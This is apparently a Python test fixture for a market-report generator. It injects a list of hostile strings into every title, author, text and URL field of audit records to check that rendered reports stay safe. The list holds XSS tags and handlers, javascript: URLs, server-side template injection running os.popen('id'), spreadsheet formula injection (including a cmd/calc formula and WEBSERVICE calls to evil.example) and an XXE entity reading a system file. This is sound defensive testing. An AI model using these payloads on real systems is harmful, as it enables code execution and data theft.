"""Texts that attack whoever opens a report, and audits that carry them in every title, author, text and address."""

import re
import zlib
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any

from market.companies import Company
from market.venues import Venue

_EVIL = "evil.example"
# Every one that could run something would call alert() or ask evil.example for something.
PAYLOADS = (
    # script and handlers
    "<script>alert(1)</script>",
    f"<script src=https://{_EVIL}/x.js></script>",
    "<ScRiPt\x00>alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror='alert(1)'>",
    "' autofocus onfocus=alert(1) tabindex=1 x='",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    f"<iframe src=https://{_EVIL}/ srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data=https://{_EVIL}/x></object><embed src=https://{_EVIL}/x>",
    f'<meta http-equiv=refresh content="0;url=https://{_EVIL}/"><base href=https://{_EVIL}/>',
    f"<form action=https://{_EVIL}/><button autofocus>Go</button></form>",
    f"<link rel=stylesheet href=https://{_EVIL}/x.css>",
    # pictures that are programs
    "<svg onload=alert(1)>",
    f"<svg><script>alert(1)</script><image href=https://{_EVIL}/x.png /><use href=https://{_EVIL}/x.svg#a /></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    # addresses
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)//https://a.example/",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/hostname",
    f"//{_EVIL}/x.png",
    f"https://a.example@{_EVIL}/\"onmouseover=alert(1) x=\"",
    # ends of what it may stand in
    "</style><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "</svg></figure></table></template><script>alert(1)</script>",
    # style
    f"x}} body {{ background: url(https://{_EVIL}/x.png) }} @import 'https://{_EVIL}/x.css'; {{",
    f"0%;background:url(https://{_EVIL}/y.png)",
    f"\\22 }}@font-face{{font-family:a;src:url(https://{_EVIL}/f)}}",
    # templates
    "{{7*7}}{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}{# gone #}",
    "${7*7}#{7*7}<%= 7*7 %>{{{constructor.constructor('alert(1)')()}}}",
    # spreadsheets
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("https://{_EVIL}/","click")',
    f'=WEBSERVICE("https://{_EVIL}/")',
    "a;=1+1;@SUM(1)",
    'a";=1+1;"',
    "{=1+1}",
    # markdown
    f"[click](https://{_EVIL}/) ![p](https://{_EVIL}/p.png) <https://{_EVIL}/> [r]: https://{_EVIL}/",
    f"https://{_EVIL}/auto www.{_EVIL} mailto:a@{_EVIL} xmpp:a@{_EVIL}",
    "# heading\n\n```\ncode\n```\n| a | b |\n|---|---|\n- item\n1. item\n> quote\n***",
    "| cell | <b>bold</b> \\| `code` **strong** ~~gone~~ &amp; &#60;script&#62;",
    # signs
    "\u202e\u2066gnp.exe\u2069\u202c \u200f\u061c",
    "\x00\x07\x08\x1b[31m\x7f\x85\ufeff\uffff",
    "\ud800 lone \udfff",
    "🧑‍🌾 🇩🇪 ﷽ z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "دليل المشتري לקונה הראשון",
    "W" * 3_000,
    "a" * 40 + "." + "https://a.example/" + "b-" * 600,
    # XML
    '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/hostname">]>&b;&c;',
    "_x0041_ &lt;a:t&gt; <?xml version='1.0'?><?php echo 1 ?> ../../../evil.xml",
)  # fmt: skip

_TITLE = ("title", "label", "name", "action", "measure")
_AUTHOR = ("owner", "contact", "footer", "name")
_TEXT = ("quote", "text", "detail", "why", "reason", "statement", "remarks")
_ADDRESS = ("url", "address", "example")
ROLES = {"title": _TITLE, "author": _AUTHOR, "text": _TEXT, "URL": _ADDRESS}
_KEPT = re.compile(r"[0-9a-f]{16}|")


def payload_of(value: str, turn: int) -> str:
    """The payload that ``value`` carries in that turn: equal texts always carry the same one."""
    return PAYLOADS[(zlib.crc32(value.encode("utf-8", "replace")) + turn) % len(PAYLOADS)]


def injected(value: Any, turn: int, name: str = "") -> Any:
    """``value`` with a payload before every text; half of the addresses are payloads, half carry one.

    Keys, numbers and the addresses of companies and venues stay as they are.
    """
    if isinstance(value, str) and not isinstance(value, Enum):
        return (
            value
            if _KEPT.fullmatch(value) or name in ("own url", "schema_version")
            else _with_payload(value, turn, name)
        )
    if isinstance(value, tuple):
        return tuple(injected(part, turn, name) for part in value)
    if is_dataclass(value) and not isinstance(value, type):
        own = isinstance(value, Company | Venue)
        names = [field.name for field in fields(value)]
        return replace(
            value, **{n: injected(getattr(value, n), turn, f"own {n}" if own and n == "url" else n) for n in names}
        )
    return value


def _with_payload(value: str, turn: int, name: str) -> str:
    payload = payload_of(value, turn)
    if name in _ADDRESS:
        return payload if zlib.crc32(value.encode("utf-8", "replace")) & 1 else f"https://a.example/?q={payload}"
    return f"{payload} {value}"


def carried(value: Any, role: str, name: str = "") -> Iterator[str]:
    """Every text of ``value`` that stands in that role."""
    if isinstance(value, str):
        if name in ROLES[role]:
            yield value
    elif isinstance(value, tuple):
        for part in value:
            yield from carried(part, role, name)
    elif is_dataclass(value) and not isinstance(value, type):
        for field in fields(value):
            yield from carried(getattr(value, field.name), role, field.name)
